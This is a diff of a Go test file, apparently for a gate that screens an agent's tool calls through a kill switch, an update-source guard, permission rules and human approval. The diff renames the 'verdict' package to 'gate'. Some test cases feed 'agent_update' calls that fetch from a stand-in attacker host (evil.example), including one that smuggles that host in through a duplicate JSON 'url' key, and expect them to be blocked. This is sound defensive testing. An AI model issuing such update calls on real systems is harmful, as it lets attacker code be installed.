@@ -12,7 +12,7 @@ import (
 
 	"github.com/google/go-cmp/cmp"
 
-	"weir/internal/gate/verdict"
+	"weir/internal/gate"
 	"weir/internal/ruleset/permission"
 	calls "weir/internal/ruleset/wire"
 )
@@ -51,33 +51,33 @@ func callLine(tool, url string) string {
 
 // TestCallK9: what of a call of a tool is answered how, and that only what all let through is carried out.
 func TestCallK9(t *testing.T) {
-	allow := func(context.Context, verdict.Request) verdict.Verdict {
-		return verdict.Verdict{Decision: verdict.Allow, Reason: verdict.Approved}
+	allow := func(context.Context, gate.Request) gate.Verdict {
+		return gate.Verdict{Decision: gate.Allow, Reason: gate.Approved}
 	}
-	refuse := func(r verdict.Reason) func(context.Context, verdict.Request) verdict.Verdict {
-		return func(context.Context, verdict.Request) verdict.Verdict {
-			return verdict.Verdict{Reason: r, Text: "not now"}
+	refuse := func(r gate.Reason) func(context.Context, gate.Request) gate.Verdict {
+		return func(context.Context, gate.Request) gate.Verdict {
+			return gate.Verdict{Reason: r, Text: "not now"}
 		}
 	}
 	update := callLine("agent_update", release)
 	for name, c := range map[string]struct {
 		line, mode, rules string
 		killed            bool
-		decide            func(context.Context, verdict.Request) verdict.Verdict
+		decide            func(context.Context, gate.Request) gate.Verdict
 		code, says        string
 		asked             int
 	}{
 		"a person allows":      {line: update, decide: allow, asked: 1},
-		"also in observe":      {line: update, mode: "observe", decide: refuse(verdict.Denied), code: calls.Unauthorized, says: "not now", asked: 1},
-		"in seal":              {line: update, mode: "seal", rules: "allow: [agent_update]", decide: refuse(verdict.Sealed), code: calls.Unauthorized, says: "closed", asked: 1},
-		"a person refuses":     {line: update, decide: refuse(verdict.Denied), code: calls.Unauthorized, says: "a person looked at this call", asked: 1},
-		"nobody answers":       {line: update, decide: refuse(verdict.Timeout), code: calls.Timeout, says: "in time", asked: 1},
-		"nobody is there":      {line: update, decide: refuse(verdict.NoApprover), code: calls.Unauthorized, says: "nobody is there", asked: 1},
+		"also in observe":      {line: update, mode: "observe", decide: refuse(gate.Denied), code: calls.Unauthorized, says: "not now", asked: 1},
+		"in seal":              {line: update, mode: "seal", rules: "allow: [agent_update]", decide: refuse(gate.Sealed), code: calls.Unauthorized, says: "closed", asked: 1},
+		"a person refuses":     {line: update, decide: refuse(gate.Denied), code: calls.Unauthorized, says: "a person looked at this call", asked: 1},
+		"nobody answers":       {line: update, decide: refuse(gate.Timeout), code: calls.Timeout, says: "in time", asked: 1},
+		"nobody is there":      {line: update, decide: refuse(gate.NoApprover), code: calls.Unauthorized, says: "nobody is there", asked: 1},
 		"kill switch":          {line: update, killed: true, decide: allow, code: calls.Disabled, says: "turned off"},
 		"guard":                {line: callLine("agent_update", "https://evil.example/agent"), decide: allow, code: calls.Blocked, says: "update-source"},
 		"guard in observe":     {line: callLine("agent_update", "http://github.com/a/b/releases/download/v1/c"), mode: "observe", decide: allow, code: calls.Blocked, says: "update-source"},
 		"guard, twice":         {line: `{"id":"7d31","tool":"agent_update","args":{"url":"https://evil.example/a","url":"` + release + `","sha256":"00"}}`, decide: allow, code: calls.Blocked, says: "evil.example"},
-		"a rule allows":        {line: update, rules: "allow: [agent_update]", decide: refuse(verdict.Denied)},
+		"a rule allows":        {line: update, rules: "allow: [agent_update]", decide: refuse(gate.Denied)},
 		"a rule denies":        {line: update, rules: "deny: [agent_update]", decide: allow, code: calls.Unauthorized, says: "permission rules"},
 		"denies, in observe":   {line: update, mode: "observe", rules: "deny: [agent_update]", decide: allow, code: calls.Unauthorized, says: "permission rules"},
 		"a rule denies a host": {line: update, rules: "deny: ['agent_update(domain:github.com)']", decide: allow, code: calls.Unauthorized, says: "permission rules"},
@@ -131,11 +131,11 @@ func TestCallOrderK1(t *testing.T) {
 	order := []string{"kill switch", "guard", "permission rules", "gate", "kill switch"}
 	for i, denies := range order[:4] {
 		st, did := &stages{denies: denies}, new(carrier)
-		s := New(&host{decide: func(context.Context, verdict.Request) verdict.Verdict {
+		s := New(&host{decide: func(context.Context, gate.Request) gate.Verdict {
 			if st.at("gate") {
-				return verdict.Verdict{Reason: verdict.Denied}
+				return gate.Verdict{Reason: gate.Denied}
 			}
-			return verdict.Verdict{Decision: verdict.Allow, Reason: verdict.Approved}
+			return gate.Verdict{Decision: gate.Allow, Reason: gate.Approved}
 		}}, quiet())
 		s.Carry(did)
 		s.Use(Rules{Guard: guardStage{st}, Permissions: permissionDefault{st}, Killed: func() bool { return st.at("kill switch") }})
@@ -148,9 +148,9 @@ func TestCallOrderK1(t *testing.T) {
 	}
 	// The switch that is turned while a person thinks.
 	on, did := false, new(carrier)
-	s := New(&host{decide: func(context.Context, verdict.Request) verdict.Verdict {
+	s := New(&host{decide: func(context.Context, gate.Request) gate.Verdict {
 		on = true
-		return verdict.Verdict{Decision: verdict.Allow, Reason: verdict.Approved}
+		return gate.Verdict{Decision: gate.Allow, Reason: gate.Approved}
 	}}, quiet())
 	s.Carry(did)
 	s.Use(Rules{Killed: func() bool { return on }})
